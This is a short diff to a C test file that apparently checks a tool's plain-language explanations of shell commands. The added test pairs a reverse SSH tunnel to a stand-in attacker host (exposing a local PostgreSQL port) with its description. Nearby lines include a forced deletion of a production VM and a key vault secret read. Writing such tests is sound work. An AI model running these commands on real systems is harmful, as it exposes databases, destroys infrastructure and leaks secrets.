@@ -248,6 +248,8 @@ static void words_as_things(void)
 	SAYS("socat TCP-LISTEN:8080,fork TCP:10.0.0.5:5432",
 	     "listens on port 8080 and passes each connection to 10.0.0.5 port 5432");
 	NEVER_SAYS("socat TCP-LISTEN:8080,fork TCP:10.0.0.5:5432", "TCP-LISTEN");
+	SAYS("ssh -R 9000:localhost:5432 attacker@203.0.113.9 -N",
+	     "port 9000 there leads to port 5432 of this machine (the PostgreSQL database)");
 	SAYS("az vm delete --resource-group prod-rg --name db01 --yes",
 	     "Deletes the server (virtual machine) db01 in the resource group prod-rg");
 	NEVER_SAYS("az keyvault secret show --vault-name kv --name x", "the key vault (where");
